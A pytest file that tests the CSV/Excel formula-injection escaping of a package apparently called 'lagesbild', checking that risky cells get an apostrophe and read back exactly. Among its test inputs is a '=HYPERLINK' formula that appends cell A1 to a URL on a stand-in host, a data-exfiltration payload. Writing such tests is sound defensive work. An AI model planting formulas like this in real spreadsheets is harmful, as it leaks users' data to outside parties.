"""safe_cell and plain_cell: what every CSV/Excel export writes and every import reads back."""

import datetime
from decimal import Decimal

import pytest

from lagesbild.core.tables import plain_cell, read_table, safe_cell

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "=1+1",
    "+46 Föreningen",
    "-5 % arbetslöshet",
    "@SUMMA(A1)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(text):
    assert safe_cell(text) == "'" + text
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value",
    ["Kurser", "", "'90-talets program", "'", "'=1+1", "''-5", -5, -0.5, Decimal("-1.5"), None,
     datetime.date(2026, 1, 1)],
)  # fmt: skip
def test_round_trip_is_exact_for_any_value(value):
    assert plain_cell(safe_cell(value)) == value


def test_numbers_and_ordinary_text_are_left_alone():
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert safe_cell("Kurser") == "Kurser" and safe_cell("'90-tal") == "'90-tal"
    # What someone typed into a file by hand is read as typed.
    assert plain_cell("=1+1") == "=1+1" and plain_cell("'90-tal") == "'90-tal"


def test_read_table_takes_the_apostrophe_away():
    header, rows = read_table(b"titel;vikt\n'=1+1;-5\n", "f.csv")
    assert (header, rows) == (["titel", "vikt"], [["=1+1", "-5"]])
